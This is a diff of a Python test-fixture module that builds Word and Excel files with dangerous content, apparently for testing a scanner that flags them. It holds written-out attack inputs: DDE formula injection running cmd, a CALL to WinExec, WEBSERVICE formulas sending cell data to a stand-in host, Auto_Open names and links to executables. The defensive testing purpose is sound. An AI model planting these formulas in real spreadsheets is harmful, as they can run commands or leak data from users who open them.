@@ -6,11 +6,8 @@ Each `what` completes "A file with ...". python-docx, openpyxl and xlsxwriter ma
 import io
 
 import xlsxwriter
-from openpyxl.formatting.rule import FormulaRule
 from openpyxl.packaging.relationship import Relationship
-from openpyxl.workbook.defined_name import DefinedName
 from openpyxl.workbook.external_link import ExternalLink
-from openpyxl.worksheet.datavalidation import DataValidation
 
 from tests.files.packages import (
     DOCUMENT,
@@ -33,6 +30,7 @@ from tests.files.packages import (
 DOCUMENT_RELATIONS, SETTINGS_RELATIONS = "word/_rels/document.xml.rels", "word/_rels/settings.xml.rels"
 FOOTNOTES, WEB = "word/_rels/footnotes.xml.rels", "https://x.example/a.png"
 SHEET_RELATIONS, BOOK_RELATIONS = "xl/worksheets/_rels/sheet1.xml.rels", "xl/_rels/workbook.xml.rels"
+BOOK = "xl/workbook.xml"
 LINK, ELSEWHERE, DDE = "a link to anything but", "loaded from elsewhere", "(DDE)"
 MACROS, ADDIN, SOURCE, NEEDLESS = "macros", "an add-in", "a data source", "does not need"
 OBJECT, ANOTHER, ENTITIES = "an embedded object (OLE)", "another document", "entities of XML"
@@ -68,12 +66,10 @@ def drawing(attribute):
 
 
 def fielded(instruction):
-    """A Word document with a field."""
     return worded(inside={DOCUMENT: field(instruction)})
 
 
 def running(xml):
-    """A Word document with XML in its text."""
     return worded(inside={DOCUMENT: run(xml)})
 
 
@@ -221,7 +217,6 @@ WORD = {
 
 
 def calculating(formula):
-    """A function that makes a workbook of openpyxl with a formula."""
     return lambda: workbook(lambda book: book.active.append([formula]))
 
 
@@ -229,29 +224,16 @@ def booked(**changes):
     return lambda: changed(workbook(), **changes)
 
 
+def sheet(element, text):
+    """A workbook with an element in its sheet."""
+    return booked(inside={SHEET: f"<{element} xmlns='{MAIN}'>{text}</{element}>"})
+
+
 def outside(book):
     """Refer to another workbook."""
     link = ExternalLink()
     link.file_link = Relationship(type="externalLinkPath", Target="//host/a.xlsx", TargetMode="External")
     book._external_links.append(link)
-
-
-def formatted(book):
-    book.active.conditional_formatting.add("A1:A9", FormulaRule(formula=['WEBSERVICE("https://x.example")="a"']))
-
-
-def validated(book):
-    rule = DataValidation(type="list", formula1="cmd|'/c calc'!A0")
-    book.active.add_data_validation(rule)
-    rule.add("A1")
-
-
-def opening(book):
-    book.defined_names["Auto_Open"] = DefinedName("Auto_Open", attr_text="Sheet!$A$1")
-
-
-def cell_link(book):
-    book.active["A1"].hyperlink = "file:///c:/a.exe"
 
 
 def with_button():
@@ -262,12 +244,12 @@ def with_button():
     return file.getvalue()
 
 
-STRANGE_FORMULA = f"<f xmlns='{MAIN}'>{STRANGE}cmd|'/c calc'!A0</f>"
+AUTO_OPEN = f"<definedNames xmlns='{MAIN}'><definedName name='Auto_Open'>Sheet!$A$1</definedName></definedNames>"
 
 EXCEL = {
     "a formula of DDE": (calculating("=cmd|'/c calc'!A0"), DDE),
     "a formula of DDE behind another": (calculating("=1+MSEXCEL|'\\..\\cmd.exe'!''"), DDE),
-    "a formula of DDE behind an element": (booked(inside={SHEET: STRANGE_FORMULA}), TWO_WAYS),
+    "a formula of DDE behind an element": (sheet("f", f"{STRANGE}cmd|'/c calc'!A0"), TWO_WAYS),
     "a formula that asks the web": (calculating('=WEBSERVICE("https://x.example/"&A1)'), "WEBSERVICE"),
     "a formula that shows an image of the web": (calculating('=_xlfn.IMAGE("https://x.example/a")'), "IMAGE"),
     "a formula that calls a library": (calculating('=CALL("kernel32","WinExec","JCJ","calc",5)'), "CALL"),
@@ -277,10 +259,13 @@ EXCEL = {
     "a formula that joins its link": (calculating('=HYPERLINK(""&"file:///c:/a.exe")'), LINK),
     "a formula that hands a function on": (calculating("=LET(x,_xlfn.WEBSERVICE,x(A1))"), "WEBSERVICE"),
     "a formula with a share": (calculating("='\\\\host\\share\\[a.xlsx]Sheet1'!A1"), "another workbook"),
-    "a format that asks the web": (lambda: workbook(formatted), "WEBSERVICE"),
-    "a list of choices by DDE": (lambda: workbook(validated), DDE),
-    "a name that runs at the opening": (lambda: workbook(opening), MACROS),
-    "a link to a file in a cell": (lambda: workbook(cell_link), LINK),
+    "a format that asks the web": (sheet("formula", 'WEBSERVICE("https://x.example")="a"'), "WEBSERVICE"),
+    "a list of choices by DDE": (sheet("formula1", "cmd|'/c calc'!A0"), DDE),
+    "a name that runs at the opening": (booked(inside={BOOK: AUTO_OPEN}), MACROS),
+    "a link to a file in a cell": (
+        booked(relations={SHEET_RELATIONS: relation("hyperlink", "file:///c:/a.exe", external=True)}),
+        LINK,
+    ),
     "another workbook, by openpyxl": (lambda: workbook(outside), NEEDLESS),
     "connections to data": (booked(relations={BOOK_RELATIONS: relation("connections", "a.xml")}), SOURCE),
     "an embedded object": (booked(relations={SHEET_RELATIONS: relation("oleObject", "../a.bin")}), OBJECT),
